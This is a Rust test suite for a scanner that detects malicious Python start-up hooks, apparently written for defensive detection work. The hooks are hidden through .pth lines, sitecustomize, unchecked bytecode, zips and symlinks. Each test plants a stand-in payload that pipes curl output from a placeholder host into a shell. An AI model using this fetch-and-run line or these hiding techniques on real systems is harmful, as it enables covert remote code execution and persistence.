//! Issue 18's red-team shapes: start-up code that runs by CPython's own rules (importlib's
//! finder, `site`'s path lines, cached bytecode, zips and symlinks on `sys.path`), each
//! reported at high or above. Payloads are defanged text that is never run.

use std::os::unix::fs::symlink;
use std::path::Path;

use crate::util::*;

const PAYLOAD: &str = "import os; os.system('curl x.invalid | sh')\n";
const SP: &str = "venv/lib/python3.12/site-packages";

fn write(dir: &Path, rel: &str, data: impl AsRef<[u8]>) {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, data).unwrap();
}

fn venv(dir: &Path) {
    write(
        dir,
        "venv/pyvenv.cfg",
        "home = /usr/bin\nversion = 3.12.4\n",
    );
}

/// The findings at high or above whose path ends with `tail`: (rule, severity, path).
fn high_at(json: &serde_json::Value, tail: &str) -> Vec<(String, String, String)> {
    json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("high" | "critical")))
        .filter(|f| f["location"]["path"].as_str().unwrap().ends_with(tail))
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_owned(),
                f["severity"].as_str().unwrap().to_owned(),
                f["location"]["path"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn all_findings(json: &serde_json::Value) -> String {
    serde_json::to_string_pretty(&json["findings"]).unwrap()
}

#[test]
fn empty_dir_beside_a_module_does_not_hide_it() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/_virtualenv.pth"), "import _virtualenv\n");
    write(r, &format!("{SP}/_virtualenv.py"), PAYLOAD);
    std::fs::create_dir_all(r.join(SP).join("_virtualenv")).unwrap();
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "_virtualenv.py").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn symlinked_site_packages_of_a_venv_is_scanned() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, "store/evil.pth", PAYLOAD);
    std::fs::create_dir_all(r.join("venv/lib/python3.12")).unwrap();
    symlink(r.join("store"), r.join(SP)).unwrap();
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "evil.pth").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn unchecked_hash_pycache_bytecode_runs_instead_of_sitecustomize_source() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/sitecustomize.py"), "# nothing to see\n");
    // 3.12 magic, flags 0b01 (unchecked hash), an 8-byte hash, then a code object's strings
    let mut pyc = vec![0xcb, 0x0d, b'\r', b'\n', 1, 0, 0, 0];
    pyc.extend([0u8; 8]);
    pyc.extend_from_slice(PAYLOAD.as_bytes());
    write(
        r,
        &format!("{SP}/__pycache__/sitecustomize.cpython-312.pyc"),
        pyc,
    );
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "__pycache__/sitecustomize.cpython-312.pyc").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn path_line_with_a_leading_space_names_a_directory_with_that_space() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/vendor.pth"), " vendor\n");
    write(r, &format!("{SP}/vendor/README"), "benign\n");
    write(r, &format!("{SP}/ vendor/sitecustomize.py"), PAYLOAD);
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, " vendor/sitecustomize.py").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn path_line_to_a_zip_puts_its_sitecustomize_on_the_path() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/assets.pth"), "assets.dat\n");
    write(
        r,
        &format!("{SP}/assets.dat"),
        zip_of(&[("sitecustomize.py", PAYLOAD.as_bytes())]),
    );
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "assets.dat/sitecustomize.py").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn path_line_to_a_symlinked_dir_is_followed() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/plugins.pth"), "plugins\n");
    write(r, "shared/plugins/sitecustomize.py", PAYLOAD);
    symlink(r.join("shared/plugins"), r.join(SP).join("plugins")).unwrap();
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "plugins/sitecustomize.py").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn stdlib_zip_holds_a_sitecustomize() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    write(r, "usr/lib/python3.12/os.py", "");
    std::fs::create_dir_all(r.join("usr/lib/python3.12/site-packages")).unwrap();
    write(
        r,
        "usr/lib/python312.zip",
        zip_of(&[("sitecustomize.py", PAYLOAD.as_bytes())]),
    );
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "python312.zip/sitecustomize.py").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn a_module_removed_from_the_stdlib_is_judged_where_it_runs() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/compat.pth"), "import asyncore\n");
    write(r, &format!("{SP}/asyncore.py"), PAYLOAD);
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "asyncore.py").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn hooks_are_followed_to_the_end_of_what_they_import() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/chain.pth"), "import a1\n");
    for i in 1..6 {
        write(r, &format!("{SP}/a{i}.py"), format!("import a{}\n", i + 1));
    }
    write(r, &format!("{SP}/a6.py"), PAYLOAD);
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "a6.py").is_empty(),
        "{}",
        all_findings(&json)
    );
}

#[test]
fn debug_startup_prints_the_model_in_the_oracle_shape() {
    let d = tempfile::tempdir().unwrap();
    let r = std::fs::canonicalize(d.path()).unwrap();
    let sp = "venv/lib/python3.12/site-packages";
    write(
        &r,
        "venv/pyvenv.cfg",
        "include-system-site-packages = false\n",
    );
    write(&r, &format!("{sp}/a.pth"), "import mod_a\n vendor\n");
    write(&r, &format!("{sp}/ vendor/mod_a.py"), "");
    write(&r, &format!("{sp}/sitecustomize.py"), "");
    let spec = serde_json::json!({
        "version": "3.12",
        "root": r,
        "prefix": r.join("venv"),
        "kind": "venv",
        "venv_base_prefix": r.join("usr"),
        "user_base": null,
        "enable_user_site": true,
        "env": {},
        "modules": ["sitecustomize", "usercustomize"],
    });
    let spec_path = r.join("spec.json");
    std::fs::write(&spec_path, spec.to_string()).unwrap();
    let out = pthscan(&["debug-startup", "--spec", spec_path.to_str().unwrap()]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let site = r.join(sp);
    let s = |p: &Path| p.to_string_lossy().into_owned();
    assert_eq!(json["version"], "3.12");
    assert_eq!(
        json["sys_path"],
        serde_json::json!([
            s(&r.join("usr/lib/python312.zip")),
            s(&r.join("usr/lib/python3.12")),
            s(&r.join("usr/lib/python3.12/lib-dynload")),
            s(&site),
            s(&site.join(" vendor")),
        ])
    );
    // venv() and addsitepackages() both process the venv's site directory
    let pth = json["pth"].as_array().unwrap();
    assert_eq!(pth.len(), 3, "{pth:?}");
    assert_eq!(pth[0]["action"], "exec");
    assert_eq!(pth[0]["line"], 1);
    assert_eq!(pth[1]["action"], "path");
    // a path record names the directory appended
    assert_eq!(pth[1]["text"], s(&site.join(" vendor")));
    assert_eq!(json["modules"]["usercustomize"], serde_json::Value::Null);
    assert_eq!(json["modules"]["sitecustomize"]["kind"], "source");
    assert_eq!(
        json["modules"]["mod_a"]["file"],
        s(&site.join(" vendor/mod_a.py"))
    );
    assert!(
        json["modules"]["mod_a"]["origin"]
            .as_str()
            .unwrap()
            .contains("sys.path[4]")
    );
}

#[test]
fn where_the_version_is_unknown_a_finding_says_which_versions_run_it() {
    // Debian's `lib/python3/dist-packages` names no X.Y: judged under 3.14 and 3.15 rules,
    // which read ` vendor` differently
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    write(r, "usr/lib/python3/dist-packages/v.pth", " vendor\n");
    write(
        r,
        "usr/lib/python3/dist-packages/ vendor/sitecustomize.py",
        PAYLOAD,
    );
    let (json, _) = scan_json(r, &[]);
    let f = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| {
            f["location"]["path"]
                .as_str()
                .unwrap()
                .ends_with(" vendor/sitecustomize.py")
        })
        .unwrap_or_else(|| panic!("{}", all_findings(&json)));
    assert!(matches!(f["severity"].as_str(), Some("high" | "critical")));
    assert_eq!(
        f["runs_on"],
        serde_json::json!(["<=3.12", "3.13-3.14"]),
        "{f}"
    );
}

#[test]
fn a_path_line_into_tmp_with_a_leading_space_reaches_tmp_only_on_3_15() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/x.pth"), " /tmp/.cache-x\n/tmp/.cache-y\n");
    let (json, _) = scan_json(r, &[]);
    let runs: Vec<(u64, serde_json::Value)> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "PTH010")
        .map(|f| {
            (
                f["location"]["line"].as_u64().unwrap(),
                f["runs_on"].clone(),
            )
        })
        .collect();
    assert_eq!(
        runs,
        [
            (1, serde_json::json!(["3.15-3.17"])),
            (2, serde_json::json!(["<=3.12", "3.13-3.14", "3.15-3.17"])),
        ],
        "{}",
        all_findings(&json)
    );
}

/// Found by the red team: the module a hook imports from a zip on the path is read out of
/// the archive and judged, and where the zip holds bytecode of another version beside the
/// source (zipimport then runs the source), the source member is judged too.
#[test]
fn a_hooks_module_inside_a_zip_is_judged() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    venv(r);
    write(r, &format!("{SP}/shim.pth"), "shim.zip\nimport _shim\n");
    // a .pyc member with another version's magic number: refused, the source member runs
    let mut stale = 3413u16.to_le_bytes().to_vec();
    stale.extend(b"\r\n\0\0\0\0\0\0\0\0\0\0\0\0");
    write(
        r,
        &format!("{SP}/shim.zip"),
        zip_of(&[("_shim.pyc", &stale), ("_shim.py", PAYLOAD.as_bytes())]),
    );
    let (json, _) = scan_json(r, &[]);
    assert!(
        !high_at(&json, "shim.zip/_shim.py").is_empty(),
        "{}",
        all_findings(&json)
    );
}
